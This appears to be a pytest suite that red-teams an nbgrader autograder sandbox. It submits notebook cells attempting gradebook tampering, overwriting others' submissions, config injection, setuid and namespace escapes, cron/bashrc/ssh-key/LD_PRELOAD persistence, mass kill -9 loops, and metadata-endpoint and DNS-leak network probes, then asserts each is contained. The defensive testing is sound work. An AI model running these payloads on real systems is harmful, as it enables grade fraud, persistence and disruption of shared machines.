"""Reaching out of the box: marks, others' work, the home, what runs later, signals, the network."""

# ruff: noqa: E501  # an attack is easier to read on one line

import os
import socket
import tempfile
import threading
from pathlib import Path

import pytest
from nbgrader.api import Gradebook

from autograder.verdict import SubmissionVerdict

pytestmark = pytest.mark.sandbox

MARK = "closed-ring-left-behind"
FILES = {
    "gradebook": (
        "import sqlite3\nfor p in (@COURSE@ + '/gradebook.db', '../../../gradebook.db', 'gradebook.db'):\n"
        "    try:\n        b = sqlite3.connect(p); b.execute('update grade set auto_score = 6'); b.commit()\n"
        "    except sqlite3.Error as e: print(e)",
        "opened-gradebook",
    ),
    "gradebook-lock": (
        "import sqlite3\nb = sqlite3.connect(@COURSE@ + '/gradebook.db', isolation_level=None)\n"
        "b.execute('begin exclusive')\nimport time; time.sleep(9)",
        "opened-gradebook",
    ),
    "submissions": (
        "import glob; glob.glob('../../*/ring/ring.ipynb'); glob.glob('/srv/course/submitted/*/*')\nfor p in glob.glob(@COURSE@ + '/submitted/*/ring/*.ipynb') + [@COURSE@ + '/submitted/aaa/ring/ring.ipynb']:\n"
        "    open(p, 'w').write('{}')",
        "opened-submission",
    ),
    "feedback": (
        "import os, pathlib\npathlib.Path(@COURSE@ + '/feedback/x/ring').mkdir(parents=True)", "",
    ),
    "verdict": ("import os; os.path.exists('x'); os.system('cat ../../../autograded/aaa/ring/*'); open(@COURSE@ + '/autograded/aaa/ring/verdict.json', 'w')", "opened-submission"),
    "configuration": (
        "open(@COURSE@ + '/nbgrader_config.py', 'a').write('import os; os.system(\"touch /tmp/@MARK@\")')",
        "opened-gradebook",
    ),
    "course-file": ("open(@COURSE@ + '/course.json', 'w').write('{}')", ""),
    "release": ("open(@COURSE@ + '/release/ring/ring.ipynb', 'w').write('{}')", ""),
    "home": (
        "import os, pathlib\nfor h in (os.path.expanduser('~'), @HOME@, '/root', '/home/instructor'):\n"
        "    p = pathlib.Path(h, '@MARK@')\n"
        "    try: p.parent.mkdir(parents=True, exist_ok=True); p.touch()\n    except OSError: pass",
        "",
    ),
    "link-out": ("import os\nos.symlink(@COURSE@, 'c'); print(os.listdir('c'))", ""),
    "temporary": ("import os\nfor d in ('/tmp', '/var/tmp', '/dev/shm', '/run'):\n"
                  "    try: open(d + '/@MARK@', 'w')\n    except OSError: pass", ""),
    "library": (
        "import rnncourse, numpy, sys\nfor f in (rnncourse.__file__, numpy.__file__, sys.executable):\n"
        "    try: open(f, 'a').write('x')\n    except OSError: pass",
        "wrote-library",
    ),
    "set-user-id": (
        "import os, shutil\nshutil.copy('/bin/sh', 'sh'); os.chmod('sh', 0o6755); os.system('./sh -p -c id')",
        "started-program",
    ),
    "mount": ("import os\nos.system('mount --bind / /tmp; unshare -rm true; nsenter -t 1 -a')", "started-program"),
    "device": ("import os\nos.mknod('d', 0o60666, os.makedev(8, 0)); open('d', 'rb').read(9)", ""),
}  # fmt: skip
LASTING = {
    "daemon": (
        "import os, subprocess\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        os.execvp('sleep', ['sleep', '98761'])\n    os._exit(0)",
        "started-program",
    ),
    "nohup": ("import os\nos.system('nohup setsid sleep 98761 >/dev/null 2>&1 &')", "started-program"),
    "popen": (
        "import subprocess\nsubprocess.Popen(['sleep', '98761'], start_new_session=True)",
        "started-program",
    ),
    "deaf-daemon": (
        "import os, signal, time\nif os.fork() == 0:\n    for n in range(1, 65):\n"
        "        try: signal.signal(n, signal.SIG_IGN)\n        except (OSError, ValueError): pass\n"
        "    os.execvp('sleep', ['sleep', '98761'])",
        "started-program",
    ),
    "thread": ("import threading, time\nthreading.Thread(target=time.sleep, args=(98761,)).start()", ""),
    "atexit": (
        "import atexit, os\natexit.register(os.system, 'sleep 98761 &')\n"
        "import weakref\nweakref.finalize(print, os.system, 'sleep 98761 &')",
        "",
    ),
    "crontab": ("import os\nos.system('(crontab -l; echo \"* * * * * touch /tmp/@MARK@\") | crontab -')", "left-startup"),
    "cron-file": ("open('/etc/cron.d/@MARK@', 'w').write('* * * * * root true')", "left-startup"),
    "at": ("import subprocess\nsubprocess.run('echo touch /tmp/@MARK@ | at now + 1 minute', shell=True)", "left-startup"),
    "bashrc": ("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('touch /tmp/@MARK@')", "left-startup"),
    "sitecustomize": (
        "import site, sys\nfor d in [*site.getsitepackages(), '/tmp', '.']:\n"
        "    try: open(d + '/sitecustomize.py', 'w').write('x = 1')\n    except OSError: pass",
        "left-startup",
    ),
    "pth": (
        "import site\nopen(site.getsitepackages()[0] + '/@MARK@.pth', 'w').write('import os')",
        "left-startup",
    ),
    "ipython-startup": (
        "import os\nd = get_ipython().profile_dir.startup_dir if hasattr(get_ipython(), 'profile_dir') else '/tmp/profile_default/startup'\n"
        "os.makedirs(d, exist_ok=True); open(d + '/00-@MARK@.py', 'w').write('x = 1')",
        "left-startup",
    ),
    "jupyter-config": (
        "import os\nd = os.path.expanduser('~/.jupyter'); os.makedirs(d)\nopen(d + '/jupyter_server_config.py', 'w')",
        "left-startup",
    ),
    "ssh-key": (
        "import os\nd = os.path.expanduser('~/.ssh'); os.makedirs(d)\nopen(d + '/authorized_keys', 'w')", "left-startup",
    ),
    "systemd": ("import os\nos.system('systemd-run --user touch /tmp/@MARK@')", "left-startup"),
    "bytecode": (
        "import numpy, os\nd = os.path.dirname(numpy.__file__) + '/__pycache__'\n"
        "open(d + '/__init__.cpython-311.pyc', 'wb').write(b'x')",
        "",
    ),
    "environment": ("import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'; os.environ['PYTHONSTARTUP'] = '/tmp/x.py'", ""),
}  # fmt: skip
SIGNALS = {
    "kill-parent": ("import os\nos.kill(os.getppid(), 9)", "sent-signal"),
    "kill-first": ("import os\nos.kill(1, 9)", "sent-signal"),
    "kill-grader": ("import os\nos.kill(@GRADER@, 9)", "sent-signal"),
    "kill-all-numbers": (
        "import os\nfor p in range(2, 5000):\n    if p != os.getpid():\n        try: os.kill(p, 9)\n"
        "        except OSError: pass",
        "sent-signal",
    ),
    "stop-parent": ("import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)", "sent-signal"),
    "group": ("import os, signal\nsignal.signal(15, signal.SIG_IGN); os.killpg(0, 15)", "sent-signal"),
    "by-shell": ("!kill -9 $PPID; kill -9 -1 2>/dev/null; pkill -9 python", ""),
    "by-ctypes": ("import ctypes\nlibc = ctypes.CDLL(None)\nfor p in range(2, 3000): libc.kill(p, 0)\nlibc.kill(1, 9)", "used-ctypes"),
    "owner-of-descriptor": (
        "import fcntl, os, signal\nfcntl.fcntl(3, fcntl.F_SETOWN, @GRADER@); fcntl.fcntl(3, 10, 9)", "",
    ),
    "priority": (
        "import os\nfor who in (os.PRIO_USER, os.PRIO_PGRP, os.PRIO_PROCESS):\n"
        "    try: os.setpriority(who, 0, 19)\n    except OSError: pass",
        "",
    ),
    "limits-of-others": ("import resource\nresource.prlimit(@GRADER@, resource.RLIMIT_NOFILE, (1, 1))", ""),
}  # fmt: skip
NETWORK = {
    "tcp": "socket.create_connection(('127.0.0.1', @PORT@), 1).send(b'hello')",
    "tcp-6": "socket.create_connection(('::1', @PORT@), 1).send(b'hello')",
    "udp": "socket.socket(2, 2).sendto(b'hello', ('127.0.0.1', @PORT@))",
    "gateway": "socket.create_connection(('10.0.2.2', 22), 1)",
    "metadata": "__import__('urllib.request').request.urlopen('http://169.254.169.254/latest/', timeout=1)",
    "dns": "socket.getaddrinfo('0123456789.leak.example.org', 80)",
    "dns-by-hand": "socket.socket(2, 2).sendto(bytes(30), ('8.8.8.8', 53))",
    "abstract": "socket.socket(1, 1).connect('\\0@ABSTRACT@')",
    "path": "socket.socket(1, 1).connect('@PATH@')",
    "dbus": "socket.socket(1, 1).connect('/run/dbus/system_bus_socket')",
    "netlink": "socket.socket(16, 3, 0).bind((0, 0))",
    "raw": "socket.socket(2, 3, 1)",
    "packet": "socket.socket(17, 3, 3)",
    "bluetooth": "socket.socket(31, 1, 3)",
    "vsock": "socket.socket(40, 1).connect((2, 22))",
    "kernel-crypto": "socket.socket(38, 5).bind(('hash', 'sha256'))",
    "interface": "__import__('fcntl').ioctl(socket.socket(2, 2), 0x8914, b'lo' + bytes(14) + b'\\x41' + bytes(23))",
    "broadcast": "(lambda s: (s.setsockopt(1, 6, 1), s.sendto(b'x', ('255.255.255.255', 9))))(socket.socket(2, 2))",
}  # fmt: skip
ATTEMPTS = {**FILES, **LASTING, **SIGNALS}


@pytest.fixture(scope="module")
def listening():
    """Servers of the grader's own machine; what reaches them is kept."""
    heard: list[bytes] = []
    abstract = f"closed-ring-{os.getpid()}"
    sockets = []
    port = 0
    for family, kind, address in (
        (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0)),
        (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0)),
        (socket.AF_UNIX, socket.SOCK_STREAM, "\0" + abstract),
    ):
        sock = socket.socket(family, kind)
        if family == socket.AF_INET and port:
            address = ("127.0.0.1", port)
        sock.bind(address)
        if family == socket.AF_INET:
            port = sock.getsockname()[1]
        if kind == socket.SOCK_STREAM:
            sock.listen()
        sockets.append(sock)

    def hear(sock: socket.socket) -> None:
        try:
            while True:
                heard.append(
                    sock.recvfrom(99)[0]
                    if sock.type == socket.SOCK_DGRAM
                    else repr(sock.accept()).encode()
                )
        except OSError:
            pass

    for sock in sockets:
        threading.Thread(target=hear, args=(sock,), daemon=True).start()
    yield port, abstract, heard
    for sock in sockets:
        sock.close()


@pytest.fixture(scope="module")
def ring(make_ring, listening):
    ring = make_ring()
    port, abstract, _ = listening
    values = {
        "@COURSE@": repr(str(ring.course.root)),
        "@HOME@": repr(str(Path.home())),
        "@MARK@": MARK,
        "@GRADER@": str(os.getpid()),
        "@PORT@": str(port),
        "@ABSTRACT@": abstract,
        "@PATH@": str(ring.folder / "socket"),
    }

    def filled(cell: str) -> str:
        for place, value in values.items():
            cell = cell.replace(place, value)
        return cell

    ring.cells = {name: filled(cell) for name, (cell, _) in ATTEMPTS.items()}
    ring.hand_in_together(ring.cells, alone=[*SIGNALS, "gradebook-lock", "environment"])
    ring.wires = {name: filled(f"import socket\n{cell}") for name, cell in NETWORK.items()}
    ring.hand_in_together(ring.wires)
    late = (
        "import atexit, subprocess\ndef twice(x):\n"
        "    atexit.register(subprocess.Popen, ['sleep', '98761'])\n"
        "    subprocess.Popen(['sleep', '98761'], start_new_session=True)\n    return x"
    )
    ring.hand_in("exit-handler", ring.notebook(twice=late))
    ring.before = _tree(ring.course.root)
    return ring


def _tree(root: Path) -> dict[str, bytes]:
    return {
        str(path.relative_to(root)): path.read_bytes()
        for top in ("submitted", "release", "source")
        for path in sorted((root / top).rglob("*"))
        if path.is_file() and path.parts[-3] not in ("aaa", "zzz")
    } | {name: (root / name).read_bytes() for name in ("nbgrader_config.py", "course.json")}


@pytest.fixture(scope="module")
def boxes():
    """Folders of this process's sandboxes that other tests keep open."""
    return set(_boxes())


@pytest.fixture(scope="module")
def done(ring, boxes) -> dict[str, SubmissionVerdict]:
    return ring.grade()


@pytest.mark.parametrize("name", ATTEMPTS)
def test_an_attempt_gains_nothing_and_is_listed(done, ring, name):
    verdict = done[ring.places[name][0]]
    kind = ATTEMPTS[name][1]
    assert verdict.points == 4.0
    assert "retry" not in verdict.extra
    assert not kind or kind in ring.told(done, name)


@pytest.mark.parametrize("name", NETWORK)
def test_nobody_can_be_reached(done, ring, name):
    assert done[ring.places[name][0]].points == 4.0
    shown = ring.printed(name, ring.wires[name])
    assert [o["ename"] for o in shown if o["output_type"] == "error"]


def test_nothing_was_heard_outside(done, listening):
    assert not listening[2]


def test_the_course_is_as_it_was(done, ring):
    assert _tree(ring.course.root) == ring.before
    with Gradebook(ring.course.db_url, "redteam") as book:
        marks = {s.student.id: s.score for s in book.assignment_submissions("ring")}
    assert marks == {student: verdict.points for student, verdict in done.items()}
    assert not (ring.course.root / "feedback").is_dir() or not list(
        (ring.course.root / "feedback").iterdir()
    )


def test_nothing_runs_on_and_nothing_is_left(done, alive, boxes):
    assert not alive("sleep 98761")
    places = [Path("/tmp"), Path("/dev/shm"), Path("/var/tmp"), Path.home(), Path("/etc/cron.d")]
    left = [p for place in places if place.is_dir() for p in place.iterdir()]
    assert not [p for p in left if MARK in p.name]
    assert not set(_boxes()) - boxes


def _boxes():
    return Path(tempfile.gettempdir()).glob(f"autograder-box-{os.getpid()}-*")


def test_the_others_of_the_batch_have_their_marks(done, ring):
    ring.fair(done)


def test_grading_again_gives_the_same_marks(done, ring):
    seed = done["aaa"].seed
    again = ring.grade(force=True, seed=seed, students=["exit-handler", "kill-first", "aaa"])
    assert {s: v.points for s, v in again.items()} == {s: done[s].points for s in again}
